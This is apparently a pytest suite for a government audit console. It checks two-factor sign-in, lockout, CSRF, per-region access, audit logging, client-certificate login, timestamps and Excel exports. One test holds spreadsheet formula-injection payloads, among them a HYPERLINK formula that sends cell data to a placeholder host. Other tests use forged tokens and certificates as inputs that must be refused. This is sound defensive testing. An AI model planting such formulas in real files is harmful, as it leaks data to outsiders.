"""The console in process: officers sign in with a password and a one-time code (never the same
code twice; five failures lock the account; a disabled account is refused), forms carry CSRF
tokens, sessions expire; an officer finds only the hand-offs of their region, one outside it
answers 403; every search and every page opened is written to the audit log first; the weekly
report downloads as the same workbook `hub report weekly --format xlsx` writes."""

from __future__ import annotations

import io
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from hub.console.app import COOKIE, create_app
from hub.console.auth import LOCK_AFTER, make_officer
from hub.console.service import Console
from tests.console.conftest import PASSWORD, Clock, Producer, code_for, delivered_clue, sign_in
from tests.runtime.test_ingress_pipeline import Rig


def test_an_officer_signs_in_with_password_and_code_and_a_code_is_never_used_twice(
    browser: TestClient, console: Console, clock: Clock
) -> None:
    ok = sign_in(browser, console, "qz-audit-01")
    assert ok.status_code == 303 and ok.headers["location"] == "/"
    assert COOKIE in ok.cookies and "httponly" in ok.headers["set-cookie"].lower()
    assert browser.get("/").status_code == 200
    replay = TestClient(create_app(console), follow_redirects=False)
    used = code_for(console, "qz-audit-01", clock.now)
    assert sign_in(replay, console, "qz-audit-01", code=used).status_code == 401


def test_wrong_passwords_and_codes_lock_the_account_and_say_nothing_more(
    browser: TestClient, console: Console, clock: Clock
) -> None:
    for _ in range(LOCK_AFTER):
        refused = sign_in(browser, console, "qz-audit-01", password="wrong password here")
        assert refused.status_code == 401 and "Account, password or code is wrong" in refused.text
    clock.now += timedelta(seconds=60)  # a fresh code, right password: still locked
    assert sign_in(browser, console, "qz-audit-01").status_code == 401
    clock.now += timedelta(minutes=16)
    assert sign_in(browser, console, "qz-audit-01").status_code == 303
    unknown = sign_in(browser, console, "nobody", code="123456")
    assert unknown.status_code == 401 and "Account, password or code is wrong" in unknown.text


def test_a_disabled_account_cannot_sign_in_and_loses_its_sessions(
    browser: TestClient, console: Console, clock: Clock
) -> None:
    assert sign_in(browser, console, "qz-audit-01").status_code == 303
    console.officers.set_disabled("qz-audit-01", True)
    assert browser.get("/").status_code == 303  # back to the sign-in page
    clock.now += timedelta(seconds=60)
    assert sign_in(browser, console, "qz-audit-01").status_code == 401


def test_forms_need_their_csrf_token_and_sessions_expire(
    browser: TestClient, console: Console, clock: Clock
) -> None:
    browser.get("/login")
    forged = browser.post("/login", data={"csrf": "forged", "name": "qz-audit-01",
                                          "password": PASSWORD, "code": "000000"})  # fmt: skip
    assert forged.status_code == 400
    # The expired form's page is a form that works: it carries a fresh token (issue 32.5).
    again = re.search(r'name="csrf" value="([^"]*)"', forged.text)
    assert again is not None and again.group(1)
    retried = browser.post("/login", data={
        "csrf": again.group(1), "name": "qz-audit-01", "password": PASSWORD,
        "code": code_for(console, "qz-audit-01", clock.now)})  # fmt: skip
    assert retried.status_code == 303
    # A sign-out without its token is refused whole: cookie and session stay.
    refused = browser.post("/logout", data={"csrf": "forged"})
    assert refused.status_code == 400 and "set-cookie" not in refused.headers
    assert browser.get("/").status_code == 200
    page = browser.get("/")
    token = re.search(r'name="csrf" value="([^"]*)"', page.text)
    assert token is not None
    cookie = browser.cookies[COOKIE]
    assert browser.post("/logout", data={"csrf": token.group(1)}).status_code == 303
    assert console.officers.session(cookie, now=clock.now) is None  # ended on the server
    clock.now += timedelta(minutes=31)
    assert console.officers.session("any", now=clock.now) is None


def test_a_city_officer_finds_its_counties_hand_offs_and_no_other_city_s(
    rig: Rig, browser: TestClient, console: Console, looks: Producer
) -> None:
    mine = delivered_clue(rig)
    sign_in(browser, console, "qz-audit-01")
    found = browser.get("/", params={"message_id": mine})
    assert f"/handoffs/{mine}" in found.text
    assert browser.get("/", params={"reference": "no-such-clue"}).text.count("/handoffs/") == 0
    page = browser.get(f"/handoffs/{mine}")
    assert page.status_code == 200 and "PSB@350582" in page.text
    other = TestClient(create_app(console), follow_redirects=False)
    sign_in(other, console, "pt-audit-01")
    assert f"/handoffs/{mine}" not in other.get("/", params={"message_id": mine}).text
    denied, missing = other.get(f"/handoffs/{mine}"), other.get("/handoffs/no-such-hand-off")
    # "Not yours" and "not there" are the same answer: no officer learns which ids exist.
    assert denied.status_code == missing.status_code == 404 and denied.text == missing.text
    kinds = [(e["kind"], e["message_id"], e["facts"]) for e in looks.looks]
    assert all(k == "console_look" for k, _, _ in kinds)
    by_outcome = {(f["officer"], f["what"], f["outcome"]): m for _, m, f in kinds}
    assert by_outcome[("qz-audit-01", "search", "shown")] is None
    assert by_outcome[("qz-audit-01", "handoff", "shown")] == mine
    assert by_outcome[("pt-audit-01", "handoff", "denied")] == mine
    assert any(f.get("filter_message_id") == mine for _, _, f in kinds)


def test_search_filters_by_state_and_overdue(
    rig: Rig, browser: TestClient, console: Console, clock: Clock
) -> None:
    mid = delivered_clue(rig)
    sign_in(browser, console, "qz-audit-01")
    assert f"/handoffs/{mid}" in browser.get("/", params={"state": "DELIVERED"}).text
    assert f"/handoffs/{mid}" not in browser.get("/", params={"state": "CLOSED"}).text
    assert f"/handoffs/{mid}" not in browser.get("/", params={"overdue": "1"}).text
    clock.now += timedelta(days=10)  # the receipt was due the next working day
    sign_in(browser, console, "qz-audit-01")  # the session had expired meanwhile
    assert f"/handoffs/{mid}" in browser.get("/", params={"overdue": "1"}).text


def test_a_hand_off_reads_in_the_officers_words_and_its_deadline_counts_true(
    rig: Rig, browser: TestClient, console: Console, clock: Clock
) -> None:
    mid = delivered_clue(rig)
    sign_in(browser, console, "qz-audit-01")
    page = browser.get(f"/handoffs/{mid}").text
    entry = page.split('id="entry"')[1].split("</table>")[0]
    assert "晋江市医疗保障局" in entry and "晋江市公安局" in entry and "线索移送" in entry
    assert '<span title="clue_transfer">线索移送</span>' in entry  # the code in a tooltip
    assert '<span title="DELIVERED">已送达</span>' in entry and "北京时间" in entry
    obligations = page.split('id="obligations"')[1].split("</table>")[0]
    assert '<span title="receipt">签收</span>' in obligations
    # The receipt is due by the end of the next working day: 1 working day, not 2.
    receipt = next(r for r in obligations.split("<tr") if "签收" in r and "<td>" in r)
    assert [c for c in re.findall(r"<td>(\d+)</td>", receipt)] == ["1"]
    clock.now += timedelta(days=10)
    sign_in(browser, console, "qz-audit-01")
    found = browser.get("/", params={"overdue": "1"}).text
    row = next(r for r in found.split("<tr") if f"/handoffs/{mid}" in r)
    assert 'class="overdue"' in row and "已超期" in row and "晋江市公安局" in row


def test_a_hand_off_pruned_from_the_live_log_is_read_from_its_archive_marked_verified(
    rig: Rig, browser: TestClient, console: Console, tmp_path: Path
) -> None:
    from hub.audit.archive import write_archive
    from hub.audit.events import AuditEvent
    from hub.audit.prune import prune

    mid = delivered_clue(rig)
    october = datetime(2026, 10, 15, tzinfo=UTC)
    console.audit.append([
        AuditEvent(f"{kind}:{mid}", kind, october, message_id=mid, conversation_id=mid,
                   family="clue_transfer", sender="MIB@350582", recipient="PSB@350582",
                   status=status)
        for kind, status in (("submitted", None), ("delivered", "DELIVERED"))
    ], now=october)  # fmt: skip
    ops = rig.key("HUB@100000")
    folder = tmp_path / "archives" / "2026-10"
    write_archive(console.audit, folder, "2026-10", ops)
    prune(console.audit, folder, lambda k: ops.public if k == ops.key_id else None)
    assert console.audit.trail(mid) == []
    sign_in(browser, console, "qz-audit-01")
    page = browser.get(f"/handoffs/{mid}").text
    assert "来自 2026-10 归档 from the 2026-10 archive, 已核验 verified" in page
    archived = page.split('class="archived"')[1].split("</table>")[0]
    assert '<span title="delivered">送达</span>' in archived and "2026-10-15" in archived


def test_every_page_has_an_icon_and_favicon_ico_is_no_404(browser: TestClient) -> None:
    login = browser.get("/login")
    assert '<link rel="icon" href="/favicon.svg"' in login.text
    for path in ("/favicon.ico", "/favicon.svg"):
        icon = browser.get(path)
        assert icon.status_code == 200 and icon.headers["content-type"].startswith("image/svg+xml")
        assert icon.text.startswith("<svg") and "监" in icon.text


def test_search_by_agency_takes_the_address_the_results_show(
    rig: Rig, browser: TestClient, console: Console
) -> None:
    mid = delivered_clue(rig)  # MIB@350582 → PSB@350582
    sign_in(browser, console, "qz-audit-01")
    for agency in ("PSB", "PSB@350582", "psb@350582", "MIB@350582"):
        found = browser.get("/", params={"agency": agency})
        assert found.status_code == 200 and f"/handoffs/{mid}" in found.text, agency
    for agency in ("PSB@350583", "MIB@350500"):
        assert f"/handoffs/{mid}" not in browser.get("/", params={"agency": agency}).text


def test_the_weekly_report_downloads_as_the_command_line_s_workbook(
    browser: TestClient, console: Console
) -> None:
    from hub.report.weekly import weekly_report_from_store
    from hub.report.xlsx import to_xlsx

    sign_in(browser, console, "qz-audit-01")
    got = browser.get("/weekly.xlsx", params={"region": "350582", "week": "2026-W49"})
    assert got.status_code == 200 and got.headers["content-type"].endswith("sheet")
    mine = load_workbook(io.BytesIO(got.content))
    theirs = load_workbook(io.BytesIO(to_xlsx(weekly_report_from_store(console.audit, "350582",
                                                                       "2026-W49"))))  # fmt: skip
    for name in theirs.sheetnames:
        assert [[c.value for c in r] for r in mine[name].iter_rows()] == [
            [c.value for c in r] for r in theirs[name].iter_rows()
        ]
    assert browser.get("/weekly.xlsx", params={"region": "350300"}).status_code == 403


def test_only_a_supervisor_sees_who_looked_at_what(
    browser: TestClient, console: Console, clock: Clock
) -> None:
    sign_in(browser, console, "qz-audit-01")
    assert browser.get("/looks").status_code == 403
    boss = TestClient(create_app(console), follow_redirects=False)
    sign_in(boss, console, "fj-super-01")
    assert boss.get("/looks").status_code == 200


def test_the_looks_page_finds_one_officer_s_or_one_hand_off_s_looks_page_by_page(
    console: Console, clock: Clock
) -> None:
    from hub.console.looks import look

    console.audit.append([
        look("qz-audit-01" if n % 3 else "pt-audit-01", "handoff", clock.now,
             message_id=f"m-{n}", outcome="denied" if n == 7 else "shown")
        for n in range(1, 121)
    ])  # fmt: skip
    boss = TestClient(create_app(console), follow_redirects=False)
    sign_in(boss, console, "fj-super-01")
    first = boss.get("/looks", params={"officer": "pt-audit-01"})
    assert first.status_code == 200
    shown = re.findall(r"<code>(m-\d+)</code>", first.text)
    assert shown == [f"m-{n}" for n in range(120, 0, -1) if n % 3 == 0]  # 40: one page
    assert 'id="next"' not in first.text and "北京时间" in first.text
    everyone = boss.get("/looks").text
    assert len(re.findall(r"<code>m-\d+</code>", everyone)) == 50 and 'id="next"' in everyone
    third = boss.get("/looks", params={"page": "3"}).text
    assert re.findall(r"<code>(m-\d+)</code>", third) == [f"m-{n}" for n in range(20, 0, -1)]
    one = boss.get("/looks", params={"message_id": "m-7"}).text
    assert re.findall(r"<code>(m-\d+)</code>", one) == ["m-7"] and "拒绝" in one
    # The officer's name is checked where it enters, and a LIKE pattern is no wildcard.
    assert boss.get("/looks", params={"officer": "%"}).status_code == 400
    wildcard = boss.get("/looks", params={"officer": "qz_audit_01"}).text
    assert "m-" not in wildcard.split("<tbody>")[1]


def test_pictures_show_flows_compliance_and_overdue_within_scope(
    rig: Rig, browser: TestClient, console: Console, clock: Clock
) -> None:
    delivered_clue(rig)
    delivered_clue(rig)
    delivered_clue(rig, to="HEALTH@350582")
    clock.now += timedelta(days=10)  # every receipt is now overdue
    sign_in(browser, console, "qz-audit-01")
    page = browser.get("/pictures")
    assert page.status_code == 200
    assert '<svg id="flows"' in page.text and "MIB → PSB: 2" in page.text
    assert "MIB → HEALTH: 1" in page.text
    assert '<svg id="overdue"' in page.text and "350582: 6" in page.text  # receipt + acceptance
    # Receipts and acceptances of the three fell due, none met: 0 of 4 and 0 of 2 on time.
    assert '<svg id="compliance"' in page.text
    assert "MIB → PSB" in page.text and "0/4 on time" in page.text and "0/2 on time" in page.text
    # Every picture has its table: the compliance numbers are there to read, not only to hover.
    table = page.text.split('id="compliance-table"')[1].split("</table>")[0]
    assert "<td>MIB</td><td>PSB</td>" in table and "<td>0</td><td>4</td><td>0%</td>" in table
    assert "<td>0</td><td>2</td><td>0%</td>" in table
    for picture in ("flows", "compliance", "overdue"):
        assert f'id="{picture}-table"' in page.text
    other = TestClient(create_app(console), follow_redirects=False)
    sign_in(other, console, "pt-audit-01")
    assert "No hand-offs in this period" in other.get("/pictures").text  # 莆田 sees none of it


def test_the_ledger_of_a_region_downloads_with_dates_and_sums_as_numbers(
    rig: Rig, browser: TestClient, console: Console, looks: Producer
) -> None:
    mid = delivered_clue(rig)
    sign_in(browser, console, "qz-audit-01")
    listed = browser.get("/ledger", params={"region": "350582"})
    assert listed.status_code == 200 and f"/handoffs/{mid}" in listed.text
    got = browser.get("/ledger.xlsx", params={"region": "350582"})
    assert got.status_code == 200
    sheet = load_workbook(io.BytesIO(got.content))["台账"]
    rows = [[c.value for c in r] for r in sheet.iter_rows()]
    assert rows[1][0] == "消息编号" and rows[2][0] == mid and rows[2][6] == "DELIVERED"
    assert isinstance(rows[2][7], datetime)  # a date Excel can sort and filter by
    assert browser.get("/ledger.xlsx", params={"region": "350300"}).status_code == 403
    refused = looks.looks[-1]["facts"]  # every refusal is a look too
    assert (refused["what"], refused["outcome"], refused["filter_region"]) == (
        "ledger", "denied", "350300")  # fmt: skip


def test_behind_a_tls_proxy_an_officer_signs_in_with_the_certificate_the_account_names(
    console: Console, clock: Clock
) -> None:
    """Issue 30.6: the certificate header is believed only from the proxy (its secret, compared
    in constant time) and only for a certificate the configured CA issued, in its dates; curl
    with a forged header and a public certificate gets no session."""
    import urllib.parse

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    from hub.console.auth import PROXY_SECRET_HEADER, CertificateProxy

    def name(cn: str) -> x509.Name:
        return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)])

    ca_key, other_key = (
        ec.generate_private_key(ec.SECP256R1()),
        ec.generate_private_key(ec.SECP256R1()),
    )
    ca_name = name("officers' CA")
    ca = (x509.CertificateBuilder().subject_name(ca_name).issuer_name(ca_name)
          .public_key(ca_key.public_key()).serial_number(x509.random_serial_number())
          .not_valid_before(clock.now - timedelta(days=1))
          .not_valid_after(clock.now + timedelta(days=9))
          .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
          .sign(ca_key, hashes.SHA256()))  # fmt: skip

    def certificate(cn: str, signer=ca_key, days: int = 1) -> x509.Certificate:  # type: ignore[no-untyped-def]
        key = ec.generate_private_key(ec.SECP256R1())
        return (x509.CertificateBuilder().subject_name(name(cn)).issuer_name(ca.subject)
                .public_key(key.public_key()).serial_number(x509.random_serial_number())
                .not_valid_before(clock.now - timedelta(days=2))
                .not_valid_after(clock.now + timedelta(days=days))
                .sign(signer, hashes.SHA256()))  # fmt: skip

    mine, stranger = certificate("qz-audit-09"), certificate("someone else")
    forged_ca = certificate("qz-audit-09", signer=other_key)  # claims the CA, signed by another
    expired = certificate("qz-audit-09", days=-1)
    for cert in (mine, forged_ca, expired):
        console.officers.add(make_officer(f"qz-{cert.serial_number % 10**6}", PASSWORD,
                                          role="officer", scope="350500",
                                          cert_sha256=cert.fingerprint(hashes.SHA256()).hex(),
                                          now=clock.now).officer)  # fmt: skip
    secret = "s" * 40

    def header(cert: x509.Certificate, proxy_secret: str | None = secret) -> dict[str, str]:
        pem = cert.public_bytes(serialization.Encoding.PEM).decode()
        out = {"X-SSL-Client-Cert": urllib.parse.quote(pem)}
        if proxy_secret is not None:
            out[PROXY_SECRET_HEADER] = proxy_secret
        return out

    off = TestClient(create_app(console), follow_redirects=False)
    assert off.get("/login/certificate", headers=header(mine)).status_code == 404
    console.certificate_proxy = CertificateProxy("X-SSL-Client-Cert", secret, (ca,))
    proxy = TestClient(create_app(console), follow_redirects=False)
    for refused in (header(mine, None), header(mine, "s" * 39 + "t"), header(stranger),
                    header(forged_ca), header(expired), {PROXY_SECRET_HEADER: secret}):  # fmt: skip
        answer = proxy.get("/login/certificate", headers=refused)
        assert answer.status_code == 401 and not proxy.cookies
    assert proxy.get("/").status_code in (303, 401)  # still nobody
    signed = proxy.get("/login/certificate", headers=header(mine))
    assert signed.status_code == 303 and proxy.get("/").status_code == 200
    console.officers.set_disabled(f"qz-{mine.serial_number % 10**6}", True)
    again = TestClient(create_app(console), follow_redirects=False)
    assert again.get("/login/certificate", headers=header(mine)).status_code == 401


def test_the_console_refuses_a_certificate_header_without_a_proxy_secret_and_a_ca() -> None:
    import argparse

    from hub.cli.console import certificate_proxy
    from hub.core.errors import UsageError

    bare = argparse.Namespace(client_cert_header="X-SSL-Client-Cert", proxy_secret_file=None,
                              client_ca=None)  # fmt: skip
    with pytest.raises(UsageError, match="needs --proxy-secret-file"):
        certificate_proxy(bare)


def test_a_hand_off_page_shows_how_many_agencies_cosigned_the_log(
    rig: Rig, browser: TestClient, console: Console
) -> None:
    from hub.audit.cosignatures import cosign, note_body
    from hub.audit.transparency import ORIGIN, signed_checkpoint
    from hub.storage.cosignatures import CosignatureRows
    from hub.storage.tree_heads import PublishedHead, TreeHeads

    mine = delivered_clue(rig)
    sign_in(browser, console, "qz-audit-01")
    assert "No tree head is cosigned" in browser.get(f"/handoffs/{mine}").text
    root = bytes(range(32))
    note = signed_checkpoint(ORIGIN, 3, root, rig.key("HUB@100000"))
    engine = rig.services.store.engine
    at = datetime(2026, 12, 1, tzinfo=UTC)
    TreeHeads(engine).record(PublishedHead(3, root.hex(), {"checkpoint": note}, at, None))
    rows = CosignatureRows(engine)
    for who in ("MIB@350582", "PSB@350582"):
        key = rig.key(who)
        rows.record(3, key.key_id, who, root.hex(), 1_796_000_000,
                    cosign(note_body(note), key, 1_796_000_000))  # fmt: skip
    rows.record(3, "ed25519:forged", "CDI@350582", root.hex(), 1_796_000_000, "\u2014 x y")
    page = browser.get(f"/handoffs/{mine}").text
    assert "cosigned by 2 agencies: MIB@350582, PSB@350582" in page


def test_a_hand_off_page_shows_when_an_outside_tsa_stamped_its_records_and_hands_out_the_token(
    rig: Rig, browser: TestClient, console: Console, looks: Producer, tmp_path: Path
) -> None:
    import subprocess

    from hub.audit.events import AuditEvent
    from hub.audit.stamps import Stamps
    from hub.audit.timestamps import TimestampClient, load_roots
    from tests.tsa import LocalTsa

    mine = delivered_clue(rig)
    sign_in(browser, console, "qz-audit-01")
    assert "No timestamp covers" in browser.get(f"/handoffs/{mine}").text
    at = console.clock()
    console.audit.append([AuditEvent("ev-submitted", "submitted", at, message_id=mine,
                                     conversation_id=mine)])  # fmt: skip
    cp = console.audit.checkpoint(rig.key("HUB@100000"))
    assert cp is not None
    with LocalTsa("rsa") as tsa, LocalTsa() as stranger:
        assert Stamps(console.audit).stamp_pending(TimestampClient(tsa.url)) == 1
        page = browser.get(f"/handoffs/{mine}").text
        assert f"stamped checkpoint #{cp.seq}" in page and "is not checked here" in page
        console.tsa_roots = load_roots(tsa.ca)
        page = browser.get(f"/handoffs/{mine}").text
        assert "The token verifies against the TSA" in page
        token = browser.get(f"/handoffs/{mine}/timestamp/{cp.seq}.tsr")
        data = browser.get(f"/handoffs/{mine}/timestamp/{cp.seq}.dat")
        assert token.status_code == data.status_code == 200
        assert looks.looks[-1]["facts"]["what"] == "timestamp"
        (tmp_path / "t.tsr").write_bytes(token.content)
        (tmp_path / "t.dat").write_bytes(data.content)
        verify = ["openssl", "ts", "-verify", "-data", str(tmp_path / "t.dat"),
                  "-in", str(tmp_path / "t.tsr")]  # fmt: skip
        assert (
            subprocess.run([*verify, "-CAfile", str(tsa.ca)], capture_output=True).returncode == 0
        )
        # Another authority's CA does not vouch for this token, and the page says so.
        console.tsa_roots = load_roots(stranger.ca)
        assert "FAILED" in browser.get(f"/handoffs/{mine}").text
        refused = subprocess.run([*verify, "-CAfile", str(stranger.ca)], capture_output=True)
        assert refused.returncode != 0
    assert browser.get(f"/handoffs/{mine}/timestamp/{cp.seq + 1}.tsr").status_code == 404
    other = TestClient(create_app(console), follow_redirects=False)
    sign_in(other, console, "pt-audit-01")
    assert other.get(f"/handoffs/{mine}/timestamp/{cp.seq}.tsr").status_code == 403
    assert looks.looks[-1]["facts"]["outcome"] == "denied"


def test_the_ledger_workbook_holds_every_string_as_a_string_never_a_formula() -> None:
    """Issue 30.7: a reference written before the hub checked references (or any text) that
    starts like a formula comes out as text, with Excel's quote prefix, in no <f> element."""
    import zipfile

    from hub.console.ledger_book import COLUMNS, to_xlsx

    hostile = ['=HYPERLINK("http://x.invalid/?x="&A4,"click")', "+1+1", "-2", "@SUM(A1)", "\t=1"]
    rows = [[hostile[i % len(hostile)] if i < 5 else None for i, _ in enumerate(COLUMNS)]]
    book = to_xlsx(iter(rows), "=title")
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    ws = load_workbook(io.BytesIO(book))["台账"]
    cells = [c for r in ws.iter_rows() for c in r if isinstance(c.value, str)]
    risky = [c for c in cells if c.value.startswith(("=", "+", "-", "@", "\t"))]
    assert len(risky) == 6 and all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_the_log_names_why_a_sign_in_was_refused_while_the_officer_is_told_one_thing(
    browser: TestClient, console: Console, clock: Clock, caplog: pytest.LogCaptureFixture
) -> None:
    import logging

    with caplog.at_level(logging.WARNING, logger="hub.console"):
        sign_in(browser, console, "qz-audit-01", password="wrong password!")
        sign_in(browser, console, "qz-audit-01", code="000000")
        used = code_for(console, "qz-audit-01", clock.now)
        assert sign_in(browser, console, "qz-audit-01", code=used).status_code == 303
        fresh = TestClient(create_app(console), follow_redirects=False)
        answers = [sign_in(fresh, console, "qz-audit-01", code=used) for _ in range(LOCK_AFTER + 1)]
        console.officers.set_disabled("pt-audit-01", True)
        sign_in(fresh, console, "pt-audit-01")
    logged = " | ".join(r.getMessage() for r in caplog.records)
    for reason in ("wrong password", "wrong code", "code already used", "account now locked",
                   "account locked after repeated failures", "account disabled"):  # fmt: skip
        assert reason in logged, reason
    assert {a.status_code for a in answers} == {401}
    assert all("账号、密码或动态口令错误" in a.text for a in answers)  # one thing for the officer


def test_failures_are_counted_by_the_database_so_two_consoles_lose_none(console: Console) -> None:
    from hub.console.auth import LOCK_FOR

    now = datetime.now(UTC)
    counts = [console.officers.failed_sign_in("qz-audit-01", lock_after=LOCK_AFTER,
                                              lock_for=LOCK_FOR, now=now)
              for _ in range(LOCK_AFTER)]  # fmt: skip
    assert counts == [*range(1, LOCK_AFTER), 0]  # the last one locked the account
    officer = console.officers.get("qz-audit-01")
    assert officer is not None and officer.locked_until is not None
    assert console.officers.signed_in("qz-audit-01", 100) is True
    assert console.officers.signed_in("qz-audit-01", 100) is False  # a step is taken once
